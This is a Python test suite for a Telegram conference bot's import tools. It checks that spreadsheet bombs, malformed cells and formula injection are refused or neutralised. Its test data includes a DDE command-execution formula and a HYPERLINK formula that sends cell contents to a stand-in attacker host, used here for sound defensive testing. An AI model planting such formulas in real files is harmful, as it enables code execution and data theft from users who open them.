"""Issue 14, findings 1–5: what hostile and careless people send for import, through the real
stack: the chat (fake Telegram Bot API) and the `hoinghi` command line. Spreadsheet bombs are
refused by the limit they cross, in bounded time and memory; malformed cells are errors at
their row and column; formulas stay text; big imports leave chats answered; conflicts wait
for the importer's decision."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import resource
import subprocess
import sys
import time
from pathlib import Path

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from bot.cli import main
from bot.config import DEFAULT_PLAN
from bot.services.cells import FORMULA_STARTS
from storage.db import Database
from tests.conftest import ORGANISER_ID, Bot, Chat
from tests.fake_telegram import SentMessage
from tests.hostile_files import (
    HEADER_CELLS,
    HOSTILE,
    LIST_ROW,
    bad_rows_csv,
    csv_of,
    dimension_bomb,
    formulas,
)
from tests.test_files_e2e import _export
from tests.test_imports import run

HOINGHI = Path(sys.executable).with_name("hoinghi")
GiB = 1024 * 1024 * 1024
REFUSED = "Không đọc được danh sách"
# Replies to each hostile file: one when it is refused, the report and the links otherwise.
EXPECTED = {
    "dimension-bomb.xlsx": ("quá giới hạn 50 cột", 1),
    "deep.xlsx": ("lồng nhau bất thường", 1),
    "many-sheets.xlsx": ("Đã nhập 1 dòng", 2),
    "shared-strings.xlsx": ("quá nhiều ô chữ", 1),
    "zip-bomb.xlsx": ("giải nén lớn bất thường", 1),
    "formulas.xlsx": ("Đã nhập 3 dòng", 2),
    "malformed.xlsx": ("Dòng 7, cột D (Đơn vị): ô kiểu số nhưng chứa «Công an xã»", 2),
    "huge.csv": ("File có hơn 50.000 dòng dữ liệu", 1),
    "cp1258.csv": ("bảng mã UTF-8 hoặc UTF-16", 1),
    "latin1.csv": ("bảng mã UTF-8 hoặc UTF-16", 1),
    "utf16.csv": ("Đã nhập 1 dòng", 2),
}


async def send_file(chat: Chat, name: str, content: bytes, replies: int) -> list[SentMessage]:
    chat.user.send_document(name, content)
    return await chat.server.wait_for(chat.user.id, replies, timeout=60)


def child_peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024


async def test_hostile_files_are_answered_politely_in_bounded_time_and_memory(bot: Bot) -> None:
    """On main the dimension bomb walked a million rows of 16,384 cells (3.8 GB, then
    MemoryError, every chat frozen) and a text in a number cell was an uncaught ValueError."""
    admin = bot.chat(ORGANISER_ID, "Quản trị")
    other = bot.chat(1001, "Nguyễn Văn An")
    for name, (expected, count) in EXPECTED.items():
        content = HOSTILE[name]()
        started = time.monotonic()
        replies = await send_file(admin, name, content, count)
        took = time.monotonic() - started
        text = replies[0].text or ""
        assert expected in text, (name, text)
        assert "sự cố" not in text, name
        if count == 1:
            assert REFUSED in text, name
        assert took < 30, (name, took)  # a loaded machine; the parse itself is limited to 60 s
        (answer,) = await other.send("/help")
        assert answer.text, name
    assert child_peak_mb() < 1024  # each file is read in a child process capped at 1 GiB
    malformed = [r for r in await bot.db.fetch_all("SELECT full_name FROM delegates")]
    assert "Ngô Văn Em" not in {row[0] for row in malformed}  # its row was left out


async def test_imported_formulas_stay_text_and_are_written_back_neutralised(bot: Bot) -> None:
    admin = bot.chat(ORGANISER_ID, "Quản trị")
    await send_file(admin, "formulas.xlsx", formulas(), 2)
    stored = await bot.db.scalar(
        "SELECT position FROM delegates WHERE full_name = ?", ("Phạm Văn Dũng",)
    )
    assert stored == "=cmd|' /C calc'!A0 bận"  # stored as the text it is
    cached = await bot.db.scalar("SELECT position FROM delegates WHERE phone = '0912000002'")
    assert cached == "bấm xem"  # a formula cell counts by the value it shows, never run
    document, _ = await _export(admin)
    assert document.upload is not None
    sheet = load_workbook(io.BytesIO(document.upload.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == stored]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


async def test_a_conflict_waits_for_the_importers_decision(bot: Bot) -> None:
    """On main a later row with the same phone replaced "Phạm Ngọc Xuân, Bí thư Đảng ủy xã"
    with "Trùng Số, Cán bộ" and the report said only "1 gộp"."""
    admin = bot.chat(ORGANISER_ID, "Quản trị")
    first = ("1", "Phạm Ngọc Xuân", "Bí thư Đảng ủy xã", "thuong-truc-dang-uy", "Xã Lộc Tấn")
    await send_file(admin, "a.csv", csv_of([HEADER_CELLS, (*first, "0912000001")]).encode(), 2)
    rows = [
        ("1", "Trùng Số", "Cán bộ", "cong-an-xa", "Xã Lộc Tấn", "0912000001"),
        ("2", "Phạm Ngọc Xuân", "Bí thư", "thuong-truc-dang-uy", "Xã Lộc Tấn", "0987000002"),
        ("3", "Lê Văn Mới", "Cán bộ", "cong-an-xa", "Xã Lộc Tấn", "0912000003"),
    ]
    report, phone, name, every, links = await send_file(
        admin, "b.csv", csv_of([HEADER_CELLS, *rows]).encode(), 5
    )
    assert "2 dòng trùng" in (report.text or "") and "Đã nhập 1 dòng" in (report.text or "")
    assert "Dòng 2, cột Số điện thoại: số 0912000001 của «Trùng Số»" in (phone.text or "")
    assert "với tên «Phạm Ngọc Xuân»" in (phone.text or "")
    assert "Dòng 3, cột Họ và tên: «Phạm Ngọc Xuân» (số 0987000002)" in (name.text or "")
    assert "số khác (0912000001)" in (name.text or "")
    assert [label for label, _ in phone.inline_buttons] == [
        "Giữ cả hai",
        "Thay bằng dòng mới",
        "Bỏ qua dòng này",
    ]
    assert "2 dòng trùng đang chờ" in (every.text or "")
    assert links.upload is not None
    people = "SELECT full_name, position, phone FROM delegates ORDER BY id"
    assert [tuple(r) for r in await bot.db.fetch_all(people)] == [
        ("Phạm Ngọc Xuân", "Bí thư Đảng ủy xã", "0912000001"),
        ("Lê Văn Mới", "Cán bộ", "0912000003"),
    ]
    done, name_links = await admin.press(name, "Giữ cả hai", replies=2)
    assert "Đã giữ cả hai: 1 dòng" in (done.text or "") and name_links.upload is not None
    (skipped,) = await admin.press(phone, "Bỏ qua dòng này")
    assert "Đã bỏ qua 1 dòng" in (skipped.text or "")
    (again,) = await admin.press(every, "Thay bằng dòng mới")  # nothing left to decide
    assert "đã được quyết định" in (again.text or "")
    assert [tuple(r) for r in await bot.db.fetch_all(people)] == [
        ("Phạm Ngọc Xuân", "Bí thư Đảng ủy xã", "0912000001"),
        ("Lê Văn Mới", "Cán bộ", "0912000003"),
        ("Phạm Ngọc Xuân", "Bí thư", "0987000002"),
    ]
    # Replace: the stored person takes the row's details, after the importer said so.
    _, conflict = await send_file(admin, "c.csv", csv_of([HEADER_CELLS, rows[0]]).encode(), 2)
    assert "«Trùng Số»" in (conflict.text or "")
    await admin.press(conflict, "Thay bằng dòng mới", replies=2)
    renamed = await bot.db.scalar("SELECT full_name FROM delegates WHERE phone = '0912000001'")
    assert renamed == "Trùng Số"


SYLLABLES = ("An", "Bình", "Cường", "Dũng", "Giang", "Hà", "Khánh", "Linh", "Minh", "Nga")


def person_name(number: int) -> str:
    """A different name for every number (one syllable a digit)."""
    return "Nguyễn " + " ".join(SYLLABLES[int(digit)] for digit in f"{number:05d}")


@pytest.mark.latency
async def test_chats_stay_answered_during_a_5_mb_import(bot: Bot) -> None:
    """On main a 600 KB import froze every chat for 48.5 s. Another person's answer time
    while a 5 MB file of 40,000 rows is read, checked and stored: p99 ≤ 200 ms."""
    admin = bot.chat(ORGANISER_ID, "Quản trị")
    other = bot.chat(1001, "Nguyễn Văn An")
    await other.send("/help")
    rows = (
        (str(n), person_name(n), "Chuyên viên văn phòng Đảng ủy xã", "cong-an-xa", "Xã Lộc Tấn")
        for n in range(1, 40_001)
    )
    content = csv_of([HEADER_CELLS, *((*row, f"09{int(row[0]):08d}") for row in rows)]).encode()
    content += b"," * (5 * 1024 * 1024 - len(content))  # padding to 5 MB: empty cells
    assert len(content) >= 5 * 1024 * 1024
    admin.user.send_document("lon.csv", content)
    latencies: list[float] = []
    while not admin.server.messages_to(admin.user.id):
        started = time.monotonic()
        await other.send("/help")
        latencies.append(time.monotonic() - started)
    await admin.server.wait_for(admin.user.id, 1, timeout=120)
    assert len(latencies) >= 20
    latencies.sort()
    p99 = latencies[int(len(latencies) * 0.99) - 1]
    print(f"answers during the import: {len(latencies)}, p99 {p99 * 1000:.0f} ms")
    assert p99 <= 0.2, (p99, latencies[-5:], len(latencies))


@pytest.fixture
def cli_env(db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    monkeypatch.setenv("DATABASE_PATH", str(tmp_path / "bot.sqlite3"))
    monkeypatch.setenv("TELEGRAM_BOT_TOKEN", "")
    monkeypatch.delenv("PLAN_FILE", raising=False)
    monkeypatch.chdir(tmp_path)
    return {**os.environ, "DATABASE_PATH": str(tmp_path / "bot.sqlite3")}


def _limited(limit: int) -> None:
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


async def test_the_bomb_is_refused_by_the_command_line_quickly_in_1_gib(
    cli_env: dict[str, str], tmp_path: Path
) -> None:
    bomb = tmp_path / "bom.xlsx"
    bomb.write_bytes(dimension_bomb())
    assert bomb.stat().st_size < 2000
    started = time.monotonic()
    done = await asyncio.to_thread(
        subprocess.run,
        [str(HOINGHI), "import", str(bomb)],
        env=cli_env,
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=lambda: _limited(GiB),
    )
    took = time.monotonic() - started
    assert done.returncode == 2, done.stderr
    assert "Dòng 1048576 có dữ liệu ở cột XFD, quá giới hạn 50 cột" in done.stderr
    assert "Traceback" not in done.stderr
    assert took < 10, took


async def test_100_000_bad_rows_on_the_command_line(
    cli_env: dict[str, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """On main: 11 s and 2,123 messages in the chat. Over the row limit the file is refused
    naming it; with the limit raised, the first 20 errors reach the terminal within 30 s and
    all 100,000 are in the report beside the file."""
    path = tmp_path / "xau.csv"
    path.write_bytes(bad_rows_csv(100_000))
    assert 3.5 * 1024 * 1024 < path.stat().st_size < 4.5 * 1024 * 1024
    assert await run(str(path)) == 2
    assert "File có hơn 50.000 dòng dữ liệu" in capsys.readouterr().err
    os.environ["IMPORT_MAX_ROWS"] = "100000"
    try:
        started = time.monotonic()
        assert await run(str(path)) == 2  # nothing valid, no links
        took = time.monotonic() - started
    finally:
        del os.environ["IMPORT_MAX_ROWS"]
    out = capsys.readouterr().out.splitlines()
    assert took < 30, took
    assert len([line for line in out if line.startswith("Dòng ")]) == 20
    assert "… và 99980 lỗi nữa" in "\n".join(out)
    assert "0 dòng: 0 đại biểu mới" in "\n".join(out)
    report = path.with_name("xau-bao-cao-loi.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(report)))
    assert rows[0] == ["Dòng", "Cột", "Lỗi"] and len(rows) == 100_001
    assert rows[1][:2] == ["2", "Xã/phường"]


async def test_every_writer_neutralises_formulas(
    cli_env: dict[str, str], tmp_path: Path, db: Database, capsys: pytest.CaptureFixture[str]
) -> None:
    """The error report (a header typed as a formula), the invitations' muc-luc.csv (a plan's
    unit label) and the template keep people's text as text."""
    evil = '=HYPERLINK("http://evil.example/?"&F2,"xem")'
    path = tmp_path / "ds.csv"
    path.write_text(csv_of([(*HEADER_CELLS, evil.replace(",", ";")), LIST_ROW]), "utf-8")
    assert await run(str(path), "--links", "l.xlsx") == 0
    report = (tmp_path / "ds-bao-cao-loi.csv").read_text("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(report)) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]

    plan = tmp_path / "plan.yaml"
    text = DEFAULT_PLAN.read_text("utf-8")
    plan.write_text(text.replace("label: Lãnh đạo UBND xã", 'label: "=Lãnh đạo UBND xã"'))
    assert await asyncio.to_thread(main, ["plan", "load", str(plan)]) == 0
    out = tmp_path / "giay-moi"
    assert await asyncio.to_thread(main, ["invites", "--bot", "HoiNghiBot", "--out", str(out)]) == 0
    index = (out / "muc-luc.csv").read_text("utf-8-sig")
    names = [row[0] for row in csv.reader(io.StringIO(index))]
    assert "'=Lãnh đạo UBND xã" in names
    assert await run("--template", "mau.xlsx") == 0
    units = load_workbook(tmp_path / "mau.xlsx").worksheets[1]
    label = next(c for row in units.iter_rows() for c in row if c.value == "=Lãnh đạo UBND xã")
    assert label.data_type == "s" and label.quotePrefix
    capsys.readouterr()
